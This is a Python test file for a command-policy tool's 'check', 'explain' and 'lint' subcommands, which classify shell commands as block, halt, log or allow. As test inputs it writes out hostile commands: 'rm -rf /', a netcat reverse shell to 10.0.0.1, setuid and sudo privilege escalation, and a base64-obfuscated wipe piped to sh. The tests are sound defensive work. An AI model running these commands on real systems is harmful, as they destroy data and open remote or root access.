"""The `hazmat policy` sub-app: check, explain, lint."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from typer.testing import CliRunner

from hazmat.cli.policy import policy_app as app

runner = CliRunner()


def test_check_arguments_one_line_each() -> None:
    r = runner.invoke(app, ["check", "rm -rf /", "ls -la", "nc -e /bin/sh 10.0.0.1 4444"])
    assert r.exit_code == 0, r.output
    rows = [line.split("\t") for line in r.output.strip().splitlines()]
    assert [row[0].strip() for row in rows] == ["block", "allow", "halt"]
    assert rows[0][1] == "destructive"


def test_check_json_lines_from_stdin() -> None:
    stdin = (
        "whoami\n"
        + json.dumps({"tool": "python", "args": {"code": "import os; os.system('rm -rf /')"}})
        + "\n"
    )
    r = runner.invoke(app, ["check", "--json"], input=stdin)
    assert r.exit_code == 0, r.output
    out = [json.loads(line) for line in r.output.strip().splitlines()]
    assert out[0]["decision"] == "log" and out[0]["rules"] == ["reconnaissance"]
    assert out[1]["decision"] == "block" and "destructive" in out[1]["evidence"]


def test_check_session_mode_applies_repeat_halts() -> None:
    stdin = "chmod u+s /bin/bash\nsudo su -\nchmod 4755 /tmp/x\n"
    r = runner.invoke(app, ["check", "--session"], input=stdin)
    assert [line.split("\t")[0].strip() for line in r.output.strip().splitlines()] == [
        "block",
        "block",
        "halt",
    ]


def test_explain_shows_rules_and_parsed_form() -> None:
    r = runner.invoke(app, ["explain", "echo cm0gLXJmIC8= | base64 -d | sh"])
    assert r.exit_code == 0, r.output
    assert "decision: block" in r.output and "destructive" in r.output
    assert '[stdin:sh] ["rm", "-rf", "/"]' in r.output


def test_lint_good_and_bad(tmp_path: Path) -> None:
    r = runner.invoke(app, ["lint", "hazmat/policy/default.yaml"])
    assert r.exit_code == 0 and r.output.startswith("ok:")
    named = runner.invoke(app, ["lint", "default"])  # the name replay --policy accepts
    assert named.exit_code == 0 and named.output.startswith("ok: default: ")
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "rules:\n  - id: r1\n    when: {command_regex: 'x'}\n    action: block\n"
        "    examples: {match: ['ls']}\n"
    )
    r2 = subprocess.run(
        [sys.executable, "-m", "hazmat.cli", "policy", "lint", str(bad)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r2.returncode == 1
    lines = r2.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), r2.stderr
    assert "r1" in lines[0] and "bad.yaml" in lines[0]
